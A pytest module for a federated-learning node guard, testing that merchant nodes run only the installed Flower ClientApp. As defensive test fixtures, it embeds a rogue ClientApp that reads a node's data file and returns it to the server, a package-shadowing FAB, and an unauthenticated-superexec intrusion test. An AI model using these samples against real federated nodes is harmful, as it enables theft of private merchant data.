"""A merchant node runs only the ClientApp its merchant installed (the node guard).

Unit tests check the FAB rules and the guard's stand-ins for Flower's FAB install and
app loader, including a FAB that names the ecrec component but ships its own
``ecrec_client``/``ecrec`` packages (Flower's loader imports those; the guard never
does). The ``ecrec-client`` tests check its inputs before Flower starts. The slow
tests run real Flower processes on 127.0.0.1: a rogue app submitted with ``flwr run``
reads the data of a plain ``flower-supernode`` and is refused by ``ecrec-client``'s
node; the honest ecrec app still trains through the guard. Every process they start
carries a tag, and the tests check that nothing carrying it is left.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import secrets
import signal
import subprocess
import sys
import time
import tomllib
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ecrec.data.synth import Marketplace, write_marketplace
from ecrec.deploy.client import (
    ClientSettings,
    JournalTail,
    check_client,
    default_journal,
    default_key_file,
    default_ledger,
    default_ledger_anchor,
    journal_line,
)
from ecrec.deploy.net import Address
from ecrec.deploy.processes import TAG_VARIABLE, free_port, tagged_processes
from ecrec.errors import ConfigError, DataError, LedgerExistsError
from ecrec.federation.client import CLIENT_COMPONENT
from ecrec.federation.guard import (
    GUARD_PREFIX,
    GUARDED_COMMAND,
    JOURNAL_ENV,
    REFUSED_COMMANDS,
    FabIdentity,
    FabRefused,
    Gate,
    trusted_pins,
    verify_fab,
    write_task_shims,
)
from ecrec.node.journal import NodeJournal
from ecrec.node.settings import NodeSettings
from ecrec_client.launcher import main as client_main

BIN = Path(sys.executable).parent
PROJECT = Path(__file__).resolve().parents[2]
MODULE_TAG = f"guard-test-{os.getpid()}-{secrets.token_hex(3)}"
FLOWER_ENV = {
    "FLWR_TELEMETRY_ENABLED": "0",
    "FLWR_DISABLE_UPDATE_CHECK": "1",
    "FLWR_DISABLE_RUNTIME_DEPENDENCY_INSTALLATION": "1",
    "PYTHONUNBUFFERED": "1",
}

# --------------------------------------------------------------------------- app bundles

ROGUE_CLIENT = '''
"""Reads the file the node's config names, leaves a marker and sends the bytes away."""
import hashlib
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def steal(msg: Message, context: Context) -> Message:
    data = Path(str(context.node_config["data-path"])).read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    marker = Path(str(context.run_config["marker-dir"])) / f"{context.node_id}.marker"
    marker.write_text(digest)
    loot = ConfigRecord({"data": data, "sha256": digest})
    return Message(RecordDict({"loot": loot}), reply_to=msg)
'''

ROGUE_SERVER = '''
"""Sends one training message to every node and writes down what came back."""
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    expected = int(context.run_config["expect-nodes"])
    deadline = time.monotonic() + 120
    nodes = list(grid.get_node_ids())
    while len(nodes) < expected and time.monotonic() < deadline:
        time.sleep(1)
        nodes = list(grid.get_node_ids())
    messages = [
        Message(RecordDict({"ask": ConfigRecord({"x": 1})}), dst_node_id=n, message_type="train")
        for n in nodes
    ]
    result = {}
    for reply in grid.send_and_receive(messages, timeout=300):
        node = str(reply.metadata.src_node_id)
        if reply.has_error():
            result[node] = {"error": reply.error.reason}
        else:
            loot = reply.content.config_records["loot"]
            result[node] = {"sha256": loot["sha256"], "data": loot["data"].hex()}
    Path(str(context.run_config["out-path"])).write_text(json.dumps(result))
'''

#: A module that proves it was imported by leaving a marker (the path comes from the env).
SHADOW_MARKER = """
import os
from pathlib import Path

_marker = os.environ.get("SHADOW_MARKER_DIR")
if _marker:
    (Path(_marker) / (__name__ + ".imported")).write_text(__name__)
"""


def pyproject(
    clientapp: Any,
    *,
    publisher: str = "mallory",
    name: str = "rogue-app",
    version: str = "1.0.0",
    serverapp: str = "rogue_app.server_app:app",
) -> bytes:
    components = {"serverapp": serverapp}
    if clientapp is not None:
        components["clientapp"] = clientapp
    document = {
        "build-system": {"requires": ["hatchling"], "build-backend": "hatchling.build"},
        "project": {
            "name": name,
            "version": version,
            "description": "test app",
            "license": "Apache-2.0",
            "dependencies": [],
        },
        "tool": {
            "flwr": {
                "app": {
                    "publisher": publisher,
                    "components": components,
                    "config": {"out-path": "", "marker-dir": "", "expect-nodes": 1},
                }
            }
        },
    }
    return tomli_w.dumps(document).encode()


def build_fab(files: dict[str, bytes]) -> bytes:
    """A FAB exactly as ``flwr run``/``flwr build`` makes it (Flower's own builder)."""
    from flwr.cli.build import build_fab_from_files

    return build_fab_from_files(files)[0]


def shadow_files() -> dict[str, bytes]:
    """Names the installed ecrec component, but ships ``ecrec_client`` and ``ecrec`` itself."""
    thief = SHADOW_MARKER + ROGUE_CLIENT.replace('"""Reads', '"""Shadow: reads')
    return {
        "pyproject.toml": pyproject(CLIENT_COMPONENT, name="shadow-app"),
        "ecrec_client/__init__.py": SHADOW_MARKER.encode(),
        "ecrec_client/client_app.py": thief.encode(),
        "ecrec/__init__.py": SHADOW_MARKER.encode(),
        "rogue_app/__init__.py": b"",
        "rogue_app/server_app.py": ROGUE_SERVER.encode(),
    }


def rogue_files() -> dict[str, bytes]:
    return {
        "pyproject.toml": pyproject("rogue_app.client_app:app"),
        "rogue_app/__init__.py": b"",
        "rogue_app/client_app.py": ROGUE_CLIENT.encode(),
        "rogue_app/server_app.py": ROGUE_SERVER.encode(),
    }


def write_app(folder: Path, files: dict[str, bytes]) -> Path:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return folder


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def refusal(content: bytes, **kwargs: Any) -> FabRefused:
    with pytest.raises(FabRefused) as caught:
        verify_fab(content, **kwargs)
    return caught.value


# --------------------------------------------------------------------------- FAB rules


def test_a_fab_naming_the_installed_ecrec_clientapp_is_accepted() -> None:
    content = build_fab({"pyproject.toml": pyproject(CLIENT_COMPONENT, publisher="ecrec")})
    app = verify_fab(content)
    assert app == FabIdentity("ecrec", "rogue-app", "1.0.0", hashlib.sha256(content).hexdigest())
    assert str(app) == f"ecrec/rogue-app 1.0.0 (FAB sha256 {app.sha256})"


def test_the_project_app_itself_is_accepted() -> None:
    """What ``flwr run`` builds from this repository (as ecrec-server submits it)."""
    from flwr.cli.build import build_fab_from_disk

    app = verify_fab(build_fab_from_disk(PROJECT))
    assert (app.publisher, app.name) == ("ecrec", "ecrec")


def test_another_clientapp_is_refused_with_a_reason_naming_the_app() -> None:
    content = build_fab(rogue_files())
    refused = refusal(content)
    sha = hashlib.sha256(content).hexdigest()
    assert refused.app == FabIdentity("mallory", "rogue-app", "1.0.0", sha)
    assert str(refused) == (
        f"refused app mallory/rogue-app 1.0.0 (FAB sha256 {sha}): its clientapp is "
        f"'rogue_app.client_app:app'; this node runs only the installed {CLIENT_COMPONENT}"
    )
    assert "\n" not in str(refused)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"not a zip at all", "the FAB is not a readable zip archive (BadZipFile"),
        (zip_of({"pyproject.toml": pyproject(CLIENT_COMPONENT)})[:-30], "not a readable zip"),
        (zip_of({"client_app.py": b"app = None"}), "the FAB has no pyproject.toml"),
        (zip_of({"sub/pyproject.toml": pyproject(CLIENT_COMPONENT)}), "has no pyproject.toml"),
        (zip_of({"pyproject.toml": b"[tool.flwr\nname="}), "pyproject.toml is not valid TOML"),
        (zip_of({"pyproject.toml": b"\xff\xfe"}), "pyproject.toml is not valid TOML"),
        (zip_of({"pyproject.toml": pyproject(None)}), "its clientapp is missing"),
        (zip_of({"pyproject.toml": pyproject(["ecrec_client.client_app:app"])}), "is missing"),
        (zip_of({"pyproject.toml": pyproject(CLIENT_COMPONENT + " ")}), "its clientapp is"),
        (zip_of({"pyproject.toml": pyproject("ecrec_client.client_app:App")}), "clientapp is"),
    ],
    ids=[
        "garbage",
        "truncated",
        "no-pyproject",
        "pyproject-not-at-root",
        "bad-toml",
        "not-utf8",
        "no-clientapp",
        "clientapp-not-a-string",
        "near-miss-space",
        "near-miss-attribute",
    ],
)
def test_malformed_or_foreign_fabs_are_refused(content: bytes, reason: str) -> None:
    refused = refusal(content)
    assert reason in refused.reason, refused.reason
    assert refused.app.sha256 == hashlib.sha256(content).hexdigest()
    assert str(refused).startswith("refused app ") and "\n" not in str(refused)


def test_a_corrupt_pyproject_entry_is_refused() -> None:
    """A FAB whose central directory is intact but whose pyproject bytes are damaged."""
    content = bytearray(zip_of({"pyproject.toml": pyproject(CLIENT_COMPONENT) * 5}))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("pyproject.toml")
    start = info.header_offset + 30 + len(info.filename) + 10
    content[start : start + 8] = b"XXXXXXXX"
    assert "not a readable zip archive" in refusal(bytes(content)).reason


def test_pins_refuse_any_other_fab_even_our_own_component() -> None:
    ours = build_fab({"pyproject.toml": pyproject(CLIENT_COMPONENT, version="1.0.0")})
    newer = build_fab({"pyproject.toml": pyproject(CLIENT_COMPONENT, version="1.0.1")})
    pins = trusted_pins(f" {hashlib.sha256(ours).hexdigest().upper()} ,")
    assert verify_fab(ours, trusted_sha256=pins).version == "1.0.0"
    refused = refusal(newer, trusted_sha256=pins)
    assert refused.reason == "its FAB sha256 is not one of this node's --trusted-fab-sha256 pins"
    assert "1.0.1" in str(refused)


VALID_FAB = zip_of({"pyproject.toml": pyproject(CLIENT_COMPONENT), "x.py": b"print(1)" * 50})


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    edits=st.lists(
        st.tuples(st.integers(0, len(VALID_FAB) - 1), st.integers(0, 255)), min_size=1, max_size=6
    ),
    cut=st.integers(0, len(VALID_FAB)),
)
def test_any_damaged_fab_is_accepted_as_ours_or_refused_never_crashes(
    edits: list[tuple[int, int]], cut: int
) -> None:
    damaged = bytearray(VALID_FAB)
    for offset, value in edits:
        damaged[offset] = value
    content = bytes(damaged[:cut] if cut > 10 else damaged)
    try:
        app = verify_fab(content)
    except FabRefused as refused:
        assert "\n" not in str(refused)
        return
    # Accepted only if what it names is still exactly the installed component.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        document = tomllib.loads(archive.read("pyproject.toml").decode())
    assert document["tool"]["flwr"]["app"]["components"]["clientapp"] == CLIENT_COMPONENT
    assert app.sha256 == hashlib.sha256(content).hexdigest()


# --------------------------------------------------------------------------- the gate


def test_the_gate_journals_and_prints_a_refusal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    journal = tmp_path / "node.journal.jsonl"
    gate = Gate(journal_path=journal, apps_dir=tmp_path / "apps")
    content = build_fab(rogue_files())
    with pytest.raises(FabRefused):
        gate.verify(content, skip_prompt=True)
    line = capsys.readouterr().err.strip()
    assert line.startswith(f"{GUARD_PREFIX}: refused app mallory/rogue-app 1.0.0 (FAB sha256 ")
    assert line.endswith(f"this node runs only the installed {CLIENT_COMPONENT}")
    [record] = NodeJournal(journal).records()
    assert record["event"] == "refused"
    assert record["app"] == "mallory/rogue-app 1.0.0"
    assert record["fab_sha256"] == hashlib.sha256(content).hexdigest()
    assert "its clientapp is 'rogue_app.client_app:app'" in record["reason"]
    assert not (tmp_path / "apps").exists()  # nothing was unpacked


def test_the_gate_refuses_a_fab_that_does_not_match_its_hash(tmp_path: Path) -> None:
    from ecrec.federation.guard import _Task

    gate = Gate(journal_path=tmp_path / "j.jsonl", apps_dir=tmp_path / "apps")
    gate.task = _Task(run_id=7, server_round=3, message_type="train", fab_hash="0" * 64)
    ours = build_fab({"pyproject.toml": pyproject(CLIENT_COMPONENT)})
    with pytest.raises(FabRefused, match="does not match the hash it came with"):
        gate.verify(ours)
    [record] = NodeJournal(tmp_path / "j.jsonl").records()
    assert (record["run"], record["round"]) == (7, 3)


def test_the_gate_loads_only_a_verified_fab(tmp_path: Path) -> None:
    gate = Gate(journal_path=None, apps_dir=tmp_path / "apps")
    load = gate.loader(default_app_ref="", app_path=None, multi_app=True)
    with pytest.raises(FabRefused, match="not verified"):
        load("ecrec/ecrec", "1.0.0", "a" * 64)
    ours = build_fab({"pyproject.toml": pyproject(CLIENT_COMPONENT)})
    gate.verify(ours)
    with pytest.raises(FabRefused, match="not verified"):
        load("ecrec/ecrec", "1.0.0", "a" * 64)  # another FAB than the verified one
    from flwr.clientapp import ClientApp

    assert isinstance(load("ecrec/ecrec", "1.0.0", hashlib.sha256(ours).hexdigest()), ClientApp)


SHADOW_PROBE = """
import hashlib, json, os, sys
from pathlib import Path

fab = Path(sys.argv[2]).read_bytes()
sha = hashlib.sha256(fab).hexdigest()
if sys.argv[1] == "flower":  # what flwr-clientapp does with a FAB
    from flwr.cli.install import install_from_fab
    from flwr.clientapp.utils import get_load_client_app_fn

    install_from_fab(fab, skip_prompt=True)
    get_load_client_app_fn(default_app_ref="", app_path=None, multi_app=True)(
        "mallory/shadow-app", "1.0.0", sha
    )
else:  # what the guard does with it
    from ecrec.federation.guard import Gate

    apps = Path(os.environ["FLWR_HOME"]) / "apps"
    gate = Gate(journal_path=None, apps_dir=apps)
    gate.verify(fab, skip_prompt=True)
    gate.loader(default_app_ref="", app_path=None, multi_app=True)(
        "mallory/shadow-app", "1.0.0", sha
    )
names = ("ecrec_client", "ecrec_client.client_app")
mods = {n: getattr(sys.modules[n], "__file__", "") for n in names}
print(json.dumps({"modules": mods, "path": sys.path}))
"""


def test_a_shadowing_fab_is_accepted_but_its_code_is_never_imported(tmp_path: Path) -> None:
    """The FAB names our component and ships its own ``ecrec_client``/``ecrec``: Flower's
    loader imports the FAB's copy (the attack); the guard imports the installed one."""
    fab = tmp_path / "shadow.fab"
    fab.write_bytes(build_fab(shadow_files()))
    results = {}
    for how in ("flower", "guard"):
        home, markers = tmp_path / how / "flwr-home", tmp_path / how / "markers"
        markers.mkdir(parents=True)
        env = {**os.environ, "FLWR_HOME": str(home), "SHADOW_MARKER_DIR": str(markers)}
        done = subprocess.run(
            [sys.executable, "-I", "-c", SHADOW_PROBE, how, str(fab)],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr[-3000:]
        report = json.loads(done.stdout.strip().splitlines()[-1])
        results[how] = (report, sorted(p.name for p in markers.iterdir()), home)
    flower, flower_markers, flower_home = results["flower"]
    assert flower_markers == ["ecrec_client.client_app.imported", "ecrec_client.imported"]
    assert Path(flower["modules"]["ecrec_client.client_app"]).is_relative_to(flower_home)

    guard, guard_markers, guard_home = results["guard"]
    assert guard_markers == []
    installed = Path(guard["modules"]["ecrec_client.client_app"]).resolve()
    assert installed == (PROJECT / "client" / "client_app.py").resolve()
    assert not (guard_home / "apps").exists()
    assert not any(str(guard_home) in entry for entry in guard["path"])


def test_the_guard_fails_closed_if_flower_stops_using_the_names_it_replaces() -> None:
    import types

    import flwr.supernode.runtime.run_clientapp as runner

    from ecrec.federation.guard import RUNNER_NAMES, GuardUnsupported, check_runner

    check_runner(runner)  # Flower 1.42 as installed

    def run_clientapp() -> None:  # an "upgraded" runner that installs FABs another way
        pull_task_input()  # type: ignore[name-defined]  # noqa: F821
        get_load_client_app_fn()  # type: ignore[name-defined]  # noqa: F821

    upgraded = types.SimpleNamespace(run_clientapp=run_clientapp, **dict.fromkeys(RUNNER_NAMES))
    with pytest.raises(GuardUnsupported, match="no longer calls install_from_fab"):
        check_runner(upgraded)


# --------------------------------------------------------------------------- task shims


def test_the_shims_cover_every_task_command_of_flower() -> None:
    """A Flower upgrade that adds a task type must be looked at (and this list extended)."""
    from flwr.supercore.constant import TASK_TYPE_TO_COMMAND

    assert {GUARDED_COMMAND, *REFUSED_COMMANDS} == set(TASK_TYPE_TO_COMMAND.values())


def test_the_shims_run_the_guard_and_refuse_other_tasks(tmp_path: Path) -> None:
    shims = write_task_shims(tmp_path / "bin")
    assert sorted(p.name for p in shims.iterdir()) == sorted([GUARDED_COMMAND, *REFUSED_COMMANDS])
    assert all(os.access(p, os.X_OK) for p in shims.iterdir())
    journal = tmp_path / "journal.jsonl"
    env = {**os.environ, JOURNAL_ENV: str(journal)}
    done = subprocess.run(
        [str(shims / "flwr-serverapp"), "--runtime-api-address", "127.0.0.1:1", "--token", "t"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.strip() == (
        f"{GUARD_PREFIX}: refused task: flwr-serverapp tasks never run on a merchant node"
    )
    assert NodeJournal(journal).records()[0]["task"] == "flwr-serverapp"
    helped = subprocess.run(
        [str(shims / GUARDED_COMMAND), "--help"], capture_output=True, text=True, timeout=120
    )
    assert helped.returncode == 0 and "Run a Flower ClientApp" in helped.stdout


# --------------------------------------------------------------------------- ecrec-client inputs


@pytest.fixture
def data_dir(tmp_path: Path, market: Marketplace) -> Path:
    folder = tmp_path / "data"
    write_marketplace(market, folder)
    return folder


def client_settings(data: Path, **changes: Any) -> ClientSettings:
    ledger = changes.pop("ledger", default_ledger(data))
    key_file = changes.pop("ledger_key_file", default_key_file(ledger))
    values: dict[str, Any] = {
        "server": Address("127.0.0.1", 1),
        "data": data,
        "key": None,
        "ca": None,
        "insecure": True,
        "ledger": ledger,
        "ledger_key_file": key_file,
        "ledger_anchor": default_ledger_anchor(key_file),
        "journal": default_journal(data),
        "log_file": data.with_suffix(".log"),
    }
    values.update(changes)
    return ClientSettings(**values)


def test_init_ledger_takes_unit_delta_and_accountant_from_policy_and_data(data_dir: Path) -> None:
    import pandas as pd

    data = data_dir / "merchant_m01.parquet"
    policy = data_dir / "policy.toml"
    policy.write_text('[policy]\nbudget-epsilon = 5.0\naccountant = "rdp"\nmax-delta = 0.5\n')
    checked = check_client(
        client_settings(data, policy_file=policy, budget_epsilon=3.0, init_ledger=True)
    )
    shoppers = pd.read_parquet(data)["user_id_hash"].nunique()
    ledger = checked.ledger
    assert checked.created_ledger and checked.unit == "user" and checked.units == shoppers
    assert (ledger.unit, ledger.accountant, ledger.budget_epsilon) == ("user", "rdp", 3.0)
    assert ledger.delta == pytest.approx(min(0.5, 1 / shoppers))
    key = default_key_file(default_ledger(data))
    assert key.stat().st_mode & 0o777 == 0o600
    assert default_ledger_anchor(key).exists()
    # What flower-supernode gets is exactly what the node reads back.
    config = checked.node.to_node_config()
    assert config["budget-epsilon"] == 3.0 and config["policy-file"] == str(policy)
    assert NodeSettings.from_node_config(config) == checked.node

    with pytest.raises(LedgerExistsError, match="already exists"):
        check_client(client_settings(data, policy_file=policy, init_ledger=True))
    again = check_client(client_settings(data, policy_file=policy))  # opens and verifies it
    assert not again.created_ledger and again.ledger.ledger_id == ledger.ledger_id


def test_a_ledger_that_does_not_fit_the_policy_stops_the_node_before_start(data_dir: Path) -> None:
    data = data_dir / "merchant_m01.parquet"
    check_client(client_settings(data, init_ledger=True))
    row_policy = data_dir / "row.toml"
    row_policy.write_text('[policy]\nunit = "row"\naccountant = "rdp"\n')
    with pytest.raises(ConfigError) as caught:
        check_client(client_settings(data, policy_file=row_policy))
    message = str(caught.value)
    assert "it accounts per user, but this node trains per row" in message
    assert "its accountant is pld, the policy's is rdp" in message


def run_client_cli(*args: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = client_main(["--server", "127.0.0.1:1", "--insecure", "--connect-timeout", "1", *args])
    return code, capsys.readouterr().err


def test_a_missing_ledger_is_an_error_before_anything_starts(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = data_dir / "merchant_m00.parquet"
    code, err = run_client_cli("--data", str(data), capsys=capsys)
    assert code == 4
    assert err.strip() == (
        f"ecrec-client: error: no privacy ledger at {default_ledger(data)}; create it once, "
        "explicitly, by adding --init-ledger (a fresh ledger is a fresh budget, so it is "
        "never made silently)"
    )
    assert not default_ledger(data).exists() and not default_key_file(default_ledger(data)).exists()


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        (["--budget-epsilon", "-1"], "--budget-epsilon must be a number > 0, got -1.0"),
        (["--policy", "{dir}/nope.toml"], "{dir}/nope.toml: node policy file not found"),
        (["--policy", "{dir}/bad.toml"], "{dir}/bad.toml: policy.budget-epsilonn"),
        (["--trusted-fab-sha256", "abc"], "--trusted-fab-sha256: 'abc' is not a SHA-256"),
        (["--key", "{dir}/k"], "--insecure cannot be combined with --key"),
    ],
    ids=["budget", "policy-missing", "policy-unknown-key", "pin", "insecure-key"],
)
def test_bad_inputs_are_one_line_errors_and_create_nothing(
    data_dir: Path, capsys: pytest.CaptureFixture[str], extra: list[str], expected: str
) -> None:
    (data_dir / "bad.toml").write_text("[policy]\nbudget-epsilonn = 1.0\n")
    data = data_dir / "merchant_m00.parquet"
    args = [a.replace("{dir}", str(data_dir)) for a in extra]
    code, err = run_client_cli("--data", str(data), "--init-ledger", *args, capsys=capsys)
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ecrec-client: error: ")
    assert expected.replace("{dir}", str(data_dir)) in lines[0]
    assert not default_ledger(data).exists()


def test_data_with_plain_pii_is_refused(data_dir: Path) -> None:
    import pandas as pd

    data = data_dir / "merchant_m00.parquet"
    frame = pd.read_parquet(data)
    frame.loc[0, "product_text"] = "write to jane.doe@gmail.com today"
    frame.to_parquet(data)
    with pytest.raises(DataError, match=r"product_text: e-mail address left in text"):
        check_client(client_settings(data, init_ledger=True))
    assert not default_ledger(data).exists()


def test_journal_lines_tell_the_merchant_what_its_node_did(tmp_path: Path) -> None:
    journal = NodeJournal(tmp_path / "j.jsonl")
    journal.append("declined", round=1, reason="old round")  # before ecrec-client started
    seen: list[str] = []
    tail = JournalTail(journal.path, lambda r: seen.append(journal_line(r) or "-"))
    journal.append("trained", round=2, epsilon_spent=1.23456, budget_epsilon=8.0, unit="user",
                   accountant="pld")  # fmt: skip
    journal.append("declined", round=3, reason="federation.secagg: false would send ...")
    journal.append("refused", app="mallory/rogue-app 1.0.0", reason="its clientapp is ...")
    with journal.path.open("a") as handle:
        handle.write('{"event": "trained", "rou')  # torn: waits for the rest of the line
    tail.poll()
    assert seen == [
        "round 2: trained (ε 1.235 of 8 spent, per user, pld)",
        "round 3: declined: federation.secagg: false would send ...",
        "-",  # the guard prints refusals itself
    ]
    with journal.path.open("a") as handle:
        handle.write('nd": 4}\n')
    tail.poll()
    assert seen[-1] == "round 4: trained"


# --------------------------------------------------------------------------- real deployment


@dataclass
class Proc:
    name: str
    popen: subprocess.Popen[bytes]
    out: Path

    def text(self) -> str:
        return self.out.read_text(errors="replace")


@dataclass
class Procs:
    """Starts commands with this module's tag; ``stop_all`` ends them and checks for orphans."""

    folder: Path
    procs: list[Proc] = field(default_factory=list)

    def env(self, **extra: str) -> dict[str, str]:
        env = {**os.environ, **FLOWER_ENV, **extra}
        env["PATH"] = f"{BIN}{os.pathsep}{env.get('PATH', '')}"
        env[TAG_VARIABLE] = MODULE_TAG
        return env

    def start(self, name: str, argv: list[str], **extra: str) -> Proc:
        out = self.folder / f"{name}.log"
        popen = subprocess.Popen(
            argv,
            cwd=self.folder,
            env=self.env(FLWR_HOME=str(self.folder / f"{name}.flwr-home"), **extra),
            stdin=subprocess.DEVNULL,
            stdout=out.open("wb"),
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        proc = Proc(name, popen, out)
        self.procs.append(proc)
        return proc

    def stop(self, proc: Proc, timeout: float = 60.0) -> int:
        if proc.popen.poll() is None:
            proc.popen.send_signal(signal.SIGTERM)
        try:
            return proc.popen.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            proc.popen.kill()
            return proc.popen.wait()

    def stop_all(self) -> None:
        for proc in reversed(self.procs):
            self.stop(proc)
        deadline = time.monotonic() + 20
        while tagged_processes(MODULE_TAG) and time.monotonic() < deadline:
            time.sleep(0.5)
        left = tagged_processes(MODULE_TAG)
        for info in left:
            with contextlib.suppress(ProcessLookupError):
                os.kill(info.pid, signal.SIGKILL)
        assert not left, f"left behind: {[(p.pid, p.cmdline[:100]) for p in left]}"


def wait_for(proc: Proc, pattern: str, timeout: float) -> re.Match[str]:
    deadline = time.monotonic() + timeout
    while True:
        if match := re.search(pattern, proc.text()):
            return match
        if proc.popen.poll() is not None:
            pytest.fail(f"{proc.name} exited {proc.popen.returncode}:\n{proc.text()[-3000:]}")
        if time.monotonic() > deadline:
            pytest.fail(f"{proc.name}: no {pattern!r} within {timeout} s:\n{proc.text()[-3000:]}")
        time.sleep(0.5)


def wait_for_file(path: Path, timeout: float, *watch: Proc) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        for proc in watch:
            if proc.popen.poll() is not None:
                pytest.fail(f"{proc.name} exited {proc.popen.returncode}:\n{proc.text()[-3000:]}")
        if time.monotonic() > deadline:
            logs = "\n".join(f"== {p.name}\n{p.text()[-2000:]}" for p in watch)
            pytest.fail(f"no {path} within {timeout} s\n{logs}")
        time.sleep(1)


@dataclass
class Federation:
    root: Path
    procs: Procs
    port: int
    superlink: Proc

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"

    def flwr_run(self, app: Path, run_config: dict[str, Any]) -> str:
        """``flwr run APP --run-config FILE`` (retried while the SuperLink starts up)."""
        home = self.root / "flwr-cli"
        home.mkdir(exist_ok=True)
        (home / "config.toml").write_text(
            tomli_w.dumps(
                {"superlink": {"default": "t", "t": {"address": self.address, "insecure": True}}}
            )
        )
        config = self.root / f"run-config-{secrets.token_hex(3)}.toml"
        config.write_text(tomli_w.dumps(run_config))
        argv = [str(BIN / "flwr"), "run", str(app), "t", "--run-config", str(config)]
        last = ""
        for _ in range(20):
            done = subprocess.run(
                [*argv, "--format", "json"],
                env=self.procs.env(FLWR_HOME=str(home)),
                capture_output=True,
                text=True,
                timeout=300,
            )
            payload = done.stdout[done.stdout.find("{") :]
            with contextlib.suppress(json.JSONDecodeError):
                result = json.loads(payload)
                if result.get("success"):
                    return str(result["run-id"])
            last = done.stdout + done.stderr
            time.sleep(3)
        pytest.fail(f"flwr run failed: {last[-2000:]}")

    def ecrec_client(self, name: str, data: Path, *extra: str) -> Proc:
        argv = [str(BIN / "ecrec-client"), "--server", self.address, "--insecure"]
        return self.procs.start(name, [*argv, "--data", str(data), *extra])


@pytest.fixture
def federation(tmp_path: Path) -> Iterator[Federation]:
    procs = Procs(tmp_path)
    port = free_port()
    try:
        superlink = procs.start(
            "superlink", [str(BIN / "flower-superlink"), "--insecure", "--port", str(port)]
        )
        yield Federation(root=tmp_path, procs=procs, port=port, superlink=superlink)
    finally:
        procs.stop_all()


@pytest.mark.slow
@pytest.mark.timeout(1200)
def test_a_rogue_app_reads_a_plain_nodes_data_and_is_refused_by_ecrec_client(
    federation: Federation, market: Marketplace
) -> None:
    fed = federation
    write_marketplace(market, fed.root / "data")
    plain_data, guarded_data = fed.root / "data/merchant_m00.parquet", fed.root / "data/m01.parquet"
    (fed.root / "data/merchant_m01.parquet").rename(guarded_data)
    markers = fed.root / "markers"
    markers.mkdir()
    node_config = fed.root / "plain-node.toml"
    node_config.write_text(tomli_w.dumps({"data-path": str(plain_data)}))
    plain = fed.procs.start(
        "plain-supernode",
        [str(BIN / "flower-supernode"), "--insecure", "--superlink", fed.address,
         "--node-config", str(node_config), "--port", str(free_port())],
    )  # fmt: skip
    runtime_port = free_port()
    guarded = fed.ecrec_client(
        "ecrec-client", guarded_data, "--init-ledger", "--runtime-port", str(runtime_port),
        "--connect-timeout", "120",
    )  # fmt: skip
    plain_id = wait_for(plain, r"SuperNode ID: (\d+)", 180).group(1)
    guarded_id = wait_for(guarded, r"as SuperNode (\d+)", 180).group(1)
    journal = NodeJournal(default_journal(guarded_data))
    supernode_log = guarded_data.with_suffix(".supernode.log")

    # The guarded node's Runtime API hands tasks only to a SuperExec holding its secret.
    intruder = fed.procs.start(
        "unauthenticated-superexec",
        [str(BIN / "flower-superexec"), "--runtime-api-address", f"127.0.0.1:{runtime_port}",
         "--insecure"],
    )  # fmt: skip
    deadline = time.monotonic() + 120
    refused_exec = "SuperExec authentication failed for /flwr.proto.Runtime/AcquireTask"
    while refused_exec not in supernode_log.read_text() and time.monotonic() < deadline:
        time.sleep(0.5)
    assert refused_exec in supernode_log.read_text()
    fed.procs.stop(intruder)

    plain_bytes, guarded_bytes = plain_data.read_bytes(), guarded_data.read_bytes()
    for variant, files in (("rogue", rogue_files()), ("shadow", shadow_files())):
        app = write_app(fed.root / f"{variant}-app", files)
        out = fed.root / f"{variant}-out.json"
        fed.flwr_run(app, {"out-path": str(out), "marker-dir": str(markers), "expect-nodes": 2})
        wait_for_file(out, 600, guarded, plain, fed.superlink)
        replies = json.loads(out.read_text())
        shown = {
            node: {"sha256": r["sha256"], "bytes": len(r["data"]) // 2} if "data" in r else r
            for node, r in replies.items()
        }
        print(f"[{variant}] plain node {plain_id}, ecrec-client node {guarded_id}: {shown}")

        # The attack works against Flower's own node: the data reach the server.
        assert replies[plain_id]["sha256"] == hashlib.sha256(plain_bytes).hexdigest()
        assert bytes.fromhex(replies[plain_id]["data"]) == plain_bytes
        assert (markers / f"{plain_id}.marker").exists()
        # ecrec-client's node refuses it: no marker, no data, a reason, and it stays up.
        assert not (markers / f"{guarded_id}.marker").exists()
        assert guarded_bytes.hex() not in out.read_text()
        assert hashlib.sha256(guarded_bytes).hexdigest() not in out.read_text()
        error = replies[guarded_id]["error"]
        print(f"[{variant}] ecrec-client's node answered: {error}")
        assert guarded.popen.poll() is None
        if variant == "rogue":
            assert "ecrec.federation.guard.FabRefused" in error
            assert "refused app mallory/rogue-app 1.0.0 (FAB sha256 " in error
